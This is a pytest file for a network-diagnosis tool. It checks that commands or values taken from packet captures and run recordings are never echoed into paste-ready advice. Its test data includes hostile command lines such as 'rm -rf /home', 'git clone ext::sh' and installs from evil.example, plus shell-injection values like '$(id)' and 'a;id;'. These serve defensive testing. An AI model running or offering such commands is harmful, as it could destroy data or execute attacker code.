"""What a capture or a recording says chooses no command: whatever is offered to paste runs what the pages have, and no more."""

import re
import shlex
from itertools import cycle, product

import pytest
from feeding import RECIPES
from hypothesis import given
from hypothesis import strategies as st
from pasting import PAYLOADS, offered, programs, readable, run

import netanalyze
from netanalyze.capture.recording import RecordedRun, run_comments
from netanalyze.causes.cause import advice_page, causes
from netanalyze.clients import CLIENTS
from netanalyze.clients.repeat import may_be_repeated
from netanalyze.diagnosis.advice import advice
from netanalyze.findings import ROLES, Culprit
from netanalyze.paste import HOST, command, quoted

WHERE = {"host": "proxy.golang.org", "address": "198.51.100.5", "qname": "proxy.golang.org", "resolver": "192.0.2.53",
         "interface": "eth0", "lock": "/c/m.lock", "module": "a.test/m@v1", "setting": "GOPROXY", "program": "git",
         "holder_pid": 77, "stopped_pid": 78, "path_mtu": 1280, "status": 404, "kind": "module-not-found"}  # fmt: skip
HERE = {"go_env": {"GOPROXY": "https://a.example,direct"}, "resolvers": ["192.0.2.53"], "interface": "eth0"}
FOREIGN = """
rm -rf /home | ./go build | /tmp/go mod download | npx evil | curl -o x https://a.b | curl -K x | curl https://a.b
wget -O x http://a.b | wget http://a.b | ssh -oProxyCommand=x a | ssh a | scp a b | docker run evil
docker -H tcp://e pull a | docker pull -x | apt-get install evil | apt-get -o A=b update | sudo go build
env go build | GOFLAGS=x go build | bash -c x | python3 -m pip install . | node x.js | cargo install evil
cargo --config x build | cargo +x build | cargo run
go run evil.example/x | go build -toolexec=./x ./... | go vet -exec ./x | go build -o /etc/x
go install evil.example/x | go test -exec=./x | go generate | go tool x | go build ../x | go -C / build
go mod download -modcacherw | go get -toolexec=x | go env -w GOFLAGS=x | go build -overlay=x | go list -toolexec x
go | go mod | go build ./-x | go build ./$(id) | go build ./x;id | go mod download @x | go mod download -x;id
git -c core.sshCommand=x fetch | git fetch --upload-pack=x | git fetch -u./x | git clone -u./x a | git clone ext::sh
git pull ../x | git clone -c a=b https://a.b | git clone /tmp/x | git clone a@b:c | git clone https://-a.b/c | git x
git --exec-path=. fetch
pip --python ./x install | pip install evil | pip install -i https://e/ . | pip install https://evil.example/x
pip config set a b | pip install -r https://e/r.txt
npm --script-shell=./x ci | npm install evil | npm run x | npm exec x | npm config set a b
""".replace("\n", " | ").split(" | ")[1:]  # and, at its end, no command at all
"""Command lines that a file may hold and that no report repeats."""


def stubbed(commands, folder):
    return [call for calls in run(commands, folder) for call in calls]


@pytest.mark.parametrize("line", FOREIGN)
def test_a_foreign_command_line_is_not_repeated(line):
    argv = line.split()
    assert not may_be_repeated(argv)
    for cause, client in product(
        ("tls/client-hello-dropped", "tcp/path-death"), ("go", "git", "pip", "npm", "generic")
    ):
        told = advice(cause, Culprit("path"), client, facts={"argv": argv})
        for step in told.fix:
            assert len(argv) < 3 or line not in (step.command or "")


@pytest.mark.parametrize(
    "line",
    ["go mod download", "go build ./...", "go test -race ./cmd/x", "go mod download -x rsc.io/quote@v1.5.2", "git fetch --all",
     "git clone https://forge.example.test/private", "pip install -r requirements.txt", "npm ci", "cargo build --release"],
)  # fmt: skip
def test_a_known_command_line_is_repeated(line):
    assert may_be_repeated(line.split())


def test_what_a_person_typed_here_is_repeated_as_it_is():
    facts = {"argv": ["make", "all"]}
    commands = [
        s.command for s in advice("tcp/path-death", Culprit("path"), "generic", facts=facts | {"typed": True}).fix
    ]
    assert "make all" in commands
    assert "make all" not in [s.command for s in advice("tcp/path-death", Culprit("path"), "generic", facts=facts).fix]


@given(
    st.lists(
        st.one_of(
            st.sampled_from(["go", "git", "mod", "download", "build", "fetch", "clone", "-x", "./..."]), st.text()
        )
    )
)
def test_what_is_repeated_is_the_same_words_for_a_shell_and_nothing_that_it_expands(argv):
    if may_be_repeated(argv):
        assert " ".join(argv) == shlex.join(argv)
        assert argv[0] in ("go", "git")


@given(st.one_of(st.text(max_size=40), st.sampled_from(PAYLOADS)))
def test_a_value_is_of_its_kind_or_the_command_is_not_offered(value):
    for kind in ("host", "name", "address", "resolver", "interface", "place", "url_place"):
        check = command(f"ping {{{kind}}}", **{kind: value})
        filled = check.command if check else ""
        assert filled in ("", f"ping {value}", f"ping [{value}]")
        assert not filled or (len(shlex.split(filled)) == 2 and value.isascii() and value[0] != "-")
    word = quoted(value)
    assert word is None or (shlex.split(word) == [value] and value.isprintable() and value[0] != "-")


def test_hostile_facts_change_no_program_and_no_option(tmp_path):
    """Every cause and client, with every value that goes into a command hostile in turn, in a real bash of stubs."""
    plain, hostile = set(), set()
    payloads, roles = cycle(PAYLOADS), cycle(ROLES)
    for cause, client in product([id_ for id_, cause in causes().items() if not cause.about_client], CLIENTS):
        for argv in ([], ["go", "build"]):
            role, evil = next(roles), next(payloads)
            plain |= of_page(cause)
            for facts in (WHERE | {"argv": argv}, {"lock": "/c/m.lock"}, {}):
                plain |= commands(
                    advice(cause, Culprit(role, WHERE["host"], WHERE["address"], 443), client, {}, HERE, facts)
                )
            facts = dict.fromkeys(WHERE, evil) | {"argv": [*argv, evil]}
            around = {"go_env": {"GOPROXY": f"https://{evil},direct"}, "resolvers": [evil], "interface": evil}
            culprit = Culprit(role, evil, evil, 443)
            hostile |= commands(advice(cause, culprit, client, {"neighbour": evil}, around, facts))
    known, found = stubbed(sorted(plain), tmp_path), stubbed(sorted(hostile), tmp_path)
    assert programs(found) <= programs(known)
    assert not programs(found) & {"id", "touch", "x"}
    assert options(found) <= options(known)
    assert len(found) > 100  # it is tried on more than nothing


def of_page(cause):
    """Every command that a page has, its words filled in plainly: which of them a person sees, its first five, may differ."""
    page = advice_page(cause)
    texts = [offer.command for offer in (*page.fix, *page.verify) if offer.command]
    return {re.sub(r"\\{(\\w+)\\}", lambda word: str(WHERE.get(word[1], "x")), text) for text in texts}


def options(calls):
    """The words that a program would read as options."""
    return {word for call in calls for word in call[1:] if word.startswith("-")}


def commands(told):
    return {*(step.command for step in told.fix if step.command), *([told.verify.command] if told.verify else [])}


def recorded(path, folder, comments, replaced):
    """A copy of a capture with other names in it, and the comments of a run."""
    octets = path.read_bytes()
    for old, new in replaced:
        octets = octets.replace(old, new)
    copy = folder / f"{path.parent.name}.pcapng"
    copy.write_bytes(octets + section(comments))
    return copy


def section(comments):
    """A pcapng section header with comments (draft-ietf-opsawg-pcapng, 4.1)."""
    options = b""
    for comment in comments:
        text = comment.encode()
        options += (1).to_bytes(2, "little") + len(text).to_bytes(2, "little") + text + b"\0" * (-len(text) % 4)
    size = (28 + len(options) + 4).to_bytes(4, "little")
    head = (0x1A2B3C4D).to_bytes(4, "little") + b"\x01\0\0\0" + b"\xff" * 8
    return (0x0A0D0D0A).to_bytes(4, "little") + size + head + options + b"\0" * 4 + size


@pytest.mark.parametrize("label", [b"$(id)", b"a;id;", b"-e id"])
def test_names_on_the_wire_and_lines_in_a_file_reach_no_shell(label, tmp_path):
    """Captures of every phase, their server's name and the command in them hostile."""
    (tmp_path / "shell").mkdir()
    told = []
    for path in [p for p in RECIPES if p.name == "hit.pcapng"][:: 6 if label == b"$(id)" else 12]:
        run_of = RecordedRun(argv=("rm", "-rf", label.decode()), exit_code=1, client="go 1.27",
                             environment={"go_env": {"GOPROXY": label.decode()}, "resolvers": [label.decode()]})  # fmt: skip
        capture = recorded(path, tmp_path, run_comments(run_of), [(b"proxy", label), (b"golang", b"`id`.x")])
        result = netanalyze.analyze([capture], kernels="plain")
        assert result.run.argv == ("rm", "-rf", label.decode())
        told += offered(result)
    shell = [line for line in told if line and readable(line)]
    assert len(shell) > 10
    names = programs(stubbed(shell, tmp_path / "shell"))
    assert not names & {"rm", "id", "", label.decode()}
    assert not [line for line in told if "id`" in line or "$(id" in line or ";id" in line]


def test_a_command_that_a_file_chose_is_shown_quoted_and_labelled(tmp_path):
    from netanalyze.report import markdown, terminal

    path = next(p for p in RECIPES if p.parent.name == "client_hello_dropped")
    capture = recorded(path, tmp_path, run_comments(RecordedRun(("rm", "-rf", "/home"), 1, client="go 1.27")), [])
    result = netanalyze.analyze([capture], kernels="plain")
    assert "the command in the file says (not checked): 'rm -rf /home'" in terminal.render(result, 200)
    assert "文件中记录的命令（未经核对）：'rm -rf /home'" in terminal.render(result, 200, language="zh")
    assert "not checked" in markdown.render(result)
    assert all("rm -rf" not in line for line in offered(result))
    assert result.to_json()["run"]["argv"] == ["rm", "-rf", "/home"]


def test_only_the_one_function_puts_values_into_checks():
    """No f-string is a rule's way to tell: paste.command() checks what it puts in."""
    import ast
    from pathlib import Path

    loose = []
    for file in sorted(Path(netanalyze.__file__).parent.rglob("*.py")):
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "Alternative" and len(node.args) > 2:
                loose += [ast.unparse(part) for part in ast.walk(node.args[2]) if isinstance(part, ast.JoinedStr)]
    assert {text for text in loose if "client.again" not in text} == set()
    assert HOST.match("proxy.golang.org")
